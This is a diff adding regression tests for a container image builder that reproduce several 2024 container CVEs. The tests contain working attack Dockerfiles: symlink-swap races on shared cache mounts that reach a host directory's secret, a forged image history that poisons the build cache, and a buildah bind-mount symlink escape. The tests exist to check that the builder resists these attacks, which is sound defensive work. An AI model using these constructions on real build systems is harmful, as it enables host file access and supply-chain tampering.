@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import io
+import json
 import os
+import shutil
 import subprocess
 import tarfile
 from typing import TYPE_CHECKING
@@ -146,3 +148,98 @@ def test_context_of_an_archive_with_links(builder: Builder, victim: Path) -> Non
         )
         assert b"the host's" not in done.stdout + done.stderr
     assert untouched(victim)
+
+
+def test_a_build_swaps_where_another_mounts(builder: Builder, victim: Path, tmp_path: Path) -> None:
+    """CVE-2024-23651, CVE-2024-11218: of two that run at a time the one has its mounts in what the other changes."""
+    (tmp_path / "other").mkdir()
+    attacker = Builder(builder.crate, tmp_path / "other")
+    swap = "mv /c/real /c/d; mv /c/d /c/real; mv /c/way /c/d; mv /c/d /c/way"
+    attacker.write(
+        "Dockerfile",
+        f"FROM crate.local/busybox\nRUN --mount=type=cache,id=both,target=/c mkdir -p /c/real; ln -s {victim} /c/way; "
+        f"touch /c/on; while test ! -e /c/stop; do {swap}; done\n",
+    )
+    words = ("build", "--network", "none", str(attacker.context))
+    process = builder.crate.popen(*words)
+    both = "--mount=type=cache,id=both,target=/c"
+    builder.build(f"FROM BASE\nRUN {both} until test -e /c/on; do :; done\n")
+    mounts = (
+        "type=tmpfs,target=/c/d/a", "type=cache,id=own,target=/c/d/b", "type=bind,from=BASE,source=/bin,target=/c/d/c",
+        "type=cache,from=way,source=/d/way,target=/x", "type=bind,from=way,source=/d/way,target=/y,rw",
+    )  # fmt: skip
+    said = ""
+    for number in range(3):
+        for mount in mounts:
+            # the stage that it takes from leaves a process that goes on swapping
+            result = builder.try_build(
+                f"""
+                FROM BASE AS way
+                RUN mkdir -p /d/real; ln -s {victim} /d/link; (while :; do mv /d/real /d/way; mv /d/way /d/real; \\
+                    mv /d/link /d/way; mv /d/way /d/link; done) & sleep 0.0{number}; mv /d/link /d/way; :
+                FROM BASE
+                RUN {both} --mount={mount} cat /c/d/*/secret /x/secret /y/secret; touch /y/bad /x/bad; echo {number}
+                """,
+                "--jobs", "3", "--no-cache",
+            )  # fmt: skip
+            said += result.out + result.err
+    builder.build(f"FROM BASE\nRUN {both} touch /c/stop\n")
+    assert process.wait(timeout=30) == 0
+    assert "the host's" not in said and untouched(victim) and "STEP" in said
+    assert os.listdir(victim / "empty") == []
+
+
+def test_a_foreign_image_is_no_result_of_a_step(builder: Builder, other_crate: Crate, tmp_path: Path) -> None:
+    """CVE-2024-24557: an image from elsewhere that claims to be what a step made; another base by the same name."""
+    step = "RUN echo good > /x"
+    claim = "/bin/sh -c echo good > /x"
+    other_crate.ok("run", "--name", "evil", "--network", "none", "crate.local/busybox", "sh", "-c", "echo evil > /x")
+    other_crate.ok("commit", "evil", "evil")
+    other_crate.ok("save", "-q", "-o", str(tmp_path / "evil.tar"), "evil")
+    members = {}
+    with tarfile.open(tmp_path / "evil.tar") as archive:
+        for entry in archive:
+            file = archive.extractfile(entry)
+            members[entry.name] = (entry, file.read() if file else b"")
+    (manifest,) = json.loads(members["manifest.json"][1])
+    config = json.loads(members[manifest["Config"]][1])
+    config["history"][-1] |= {"created_by": claim, "comment": "", "created": "2020-01-01T00:00:00Z"}
+    config["container_config"] = {"Cmd": ["/bin/sh", "-c", claim]}
+    members[manifest["Config"]] = (tarfile.TarInfo("forged.json"), json.dumps(config).encode())
+    manifest["Config"] = "forged.json"
+    members["manifest.json"] = (members["manifest.json"][0], json.dumps([manifest]).encode())
+    with tarfile.open(tmp_path / "forged.tar", "w") as archive:
+        for entry, body in members.values():
+            entry.size = len(body)
+            archive.addfile(entry, io.BytesIO(body))
+    builder.crate.ok("load", "-q", "-i", str(tmp_path / "forged.tar"))
+    assert builder.run("evil", "cat", "/x") == "evil"
+    first = builder.build(f"FROM BASE\n{step}\n")
+    assert "Using cache" not in first and builder.run(first.split()[-1], "cat", "/x") == "good"
+    # the name of the base now means what has the forged history
+    for base, cached in (("crate.local/busybox", True), ("evil", False)):
+        builder.crate.ok("tag", base, "base")
+        assert ("Using cache" in builder.build(f"FROM base\n{step}\n")) is cached, base
+
+
+@pytest.mark.requires("buildah")
+def test_bind_of_a_link_of_an_image_by_buildah(victim: Path, tmp_path: Path) -> None:
+    """Positive control for CVE-2024-1753: what buildah does with the same bind."""
+    shutil.copy("/bin/busybox", tmp_path / "busybox")
+    (tmp_path / "Dockerfile").write_text(
+        f"""
+        FROM scratch AS evil
+        COPY busybox /bin/busybox
+        RUN ["/bin/busybox", "ln", "-s", "{victim}", "/way"]
+        FROM scratch
+        COPY busybox /bin/busybox
+        RUN --mount=type=bind,from=evil,source=/way,target=/x,rw ["/bin/busybox", "touch", "/x/bad"]
+        """
+    )
+    words = ["buildah", "--root", f"{tmp_path}/store", "--runroot", f"{tmp_path}/run", "--storage-driver", "vfs"]
+    words = [*words, "bud", "--isolation", "chroot", str(tmp_path)]
+    apart = ["unshare", "--mount", "sh", "-c", 'umount /sys/fs/cgroup/unified 2> /dev/null; exec "$@"', "sh", *words]
+    subprocess.run(apart, capture_output=True, timeout=60, check=False)
+    if untouched(victim):
+        pytest.skip("this buildah does not fall for it")
+    assert sorted(os.listdir(victim)) == ["bad", "empty", "secret"]
